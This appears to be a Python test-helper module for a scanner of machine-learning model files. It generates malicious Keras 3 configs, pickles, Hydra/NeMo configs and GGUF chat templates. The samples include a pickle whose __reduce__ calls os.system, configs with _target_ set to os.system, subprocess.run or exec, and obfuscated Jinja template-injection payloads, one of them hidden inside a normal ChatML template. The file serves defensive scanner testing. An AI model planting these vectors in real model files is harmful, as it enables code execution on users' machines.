"""Model content that names code, for the scanner tests: Keras 3 configs, Hydra ``_target_``, chat templates.

tests/test_scan_code_configs.py proves each malicious sample with the real loader in a child process
(tests/helpers/live.py); tests/helpers/scan_corpus.py writes the same bytes into the corpus. The
SavedModel graphs are in tests/helpers/saved_models.py.
"""

from __future__ import annotations

import base64
import io
import json
import pickle
import tarfile
import zipfile
from pathlib import Path
from typing import Any

from tests.helpers.live import PAYLOAD_COMMAND

# --------------------------------------------------------------------------- Keras 3 configs


def layer(module: str, cls: str, config: dict[str, Any], name: str, inbound: list[Any]) -> dict[str, Any]:
    return {
        "module": module,
        "class_name": cls,
        "config": config,
        "registered_name": None,
        "name": name,
        "inbound_nodes": inbound,
    }


def _input_layer() -> dict[str, Any]:
    config = {"batch_shape": [None, 4], "dtype": "float32", "name": "input"}
    return layer("keras.layers", "InputLayer", config, "input", [])


def functional(layers: list[dict[str, Any]], output: str) -> dict[str, Any]:
    return {
        "module": "keras.src.models.functional",
        "class_name": "Functional",
        "registered_name": "Functional",
        "config": {
            "name": "m",
            "trainable": True,
            "layers": [_input_layer(), *layers],
            "input_layers": [["input", 0, 0]],
            "output_layers": [[output, 0, 0]],
        },
    }


def keras_file(path: Path, config: dict[str, Any]) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("metadata.json", json.dumps({"keras_version": "3.8.0", "date_saved": "2025-01-01@00:00:00"}))
        archive.writestr("config.json", json.dumps(config))
        archive.writestr("model.weights.h5", b"")
    return path


def call_layer(module: str, name: str, kwargs: dict[str, Any]) -> dict[str, Any]:
    """A Functional 'layer' that resolves to a plain function: Keras calls it with the node's kwargs."""
    return layer(module, name, {}, "call", [{"args": [], "kwargs": kwargs}])


class _System:
    """A pickle that runs the payload when loaded (only in the child process)."""

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        import os

        return (os.system, (PAYLOAD_COMMAND,))


def torch_module_wrapper(*, base64_blob: bool = False) -> dict[str, Any]:
    """keras <= 3.8 stores the torch.save bytes as __bytes__ (a protocol-0 pickle survives UTF-8); 3.9+ base64."""
    raw = pickle.dumps(_System(), protocol=0)
    blob: Any = (
        base64.b64encode(raw).decode()
        if base64_blob
        else {"class_name": "__bytes__", "config": {"value": raw.decode()}}
    )
    config = {"name": "wrapped", "module": blob, "trainable": True, "dtype": "float32"}
    return layer("keras.layers", "TorchModuleWrapper", config, "wrapped", [[["input", 0, 0, {}]]])


# --------------------------------------------------------------------------- Hydra _target_ and NeMo


MALICIOUS_CONFIGS = {
    "os-system.yaml": f"model:\n  _target_: os.system\n  _args_: [{PAYLOAD_COMMAND!r}]\n",
    "subprocess.yaml": f"_target_: subprocess.run\n_args_:\n  - {PAYLOAD_COMMAND.split()!r}\n",
    "builtins-exec.yaml": f"_target_: builtins.exec\n_args_: [\"__import__('os').system({PAYLOAD_COMMAND!r})\"]\n",
    "nested-list.yaml": f"trainer:\n  callbacks:\n    - _target_: posix.system\n      _args_: [{PAYLOAD_COMMAND!r}]\n",
    "partial.yaml": f"f:\n  _target_: os.system\n  _args_: [{PAYLOAD_COMMAND!r}]\n  _partial_: false\n",
    "anchor.yaml": f"base: &b\n  _target_: os.system\n  _args_: [{PAYLOAD_COMMAND!r}]\nother: *b\n",
    "config.json": json.dumps({"model": {"_target_": "os.system", "_args_": [PAYLOAD_COMMAND]}}),
    "interpolated.yaml": f"name: os.system\nrun:\n  _target_: ${{name}}\n  _args_: [{PAYLOAD_COMMAND!r}]\n",
}


def nemo(path: Path, config: str) -> Path:
    with tarfile.open(path, "w:") as archive:
        for name, data in (("./model_config.yaml", config.encode()), ("./model_weights.ckpt", b"\x00" * 64)):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return path


# --------------------------------------------------------------------------- GGUF chat templates

_CMD = repr(PAYLOAD_COMMAND)
MALICIOUS_TEMPLATES = {
    "mro-subclasses": "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}"
    "{{ c()._module.__builtins__['__import__']('os').system(" + _CMD + ") }}{% endif %}{% endfor %}",
    "lipsum-globals": "{{ lipsum.__globals__['os'].system(" + _CMD + ") }}",
    "cycler-init": "{{ cycler.__init__.__globals__.os.system(" + _CMD + ") }}",
    "attr-hex": "{{ (namespace.__init__|attr('\\x5f\\x5fglobals\\x5f\\x5f')).os.system(" + _CMD + ") }}",
    "attr-built": "{% set u = '_'*2 %}{{ (lipsum|attr(u ~ 'globals' ~ u))['os'].system(" + _CMD + ") }}",
    "attr-format": "{{ (lipsum|attr('%c%cglobals%c%c'|format(95,95,95,95))).os.system(" + _CMD + ") }}",
    "attr-join": "{{ (joiner.__init__|attr(['_','_','globals','_','_']|join)).os.system(" + _CMD + ") }}",
    "self-context": "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.system(" + _CMD + ") }}",
    "hidden-in-chatml": "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content']"
    " + '<|im_end|>\\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}"
    "{% set g = cycler|attr('_'*2 ~ 'init' ~ '_'*2)|attr('_'*2 ~ 'globals' ~ '_'*2) %}"
    "{{ g.os.popen(" + _CMD + ").read() }}{% endif %}",
}
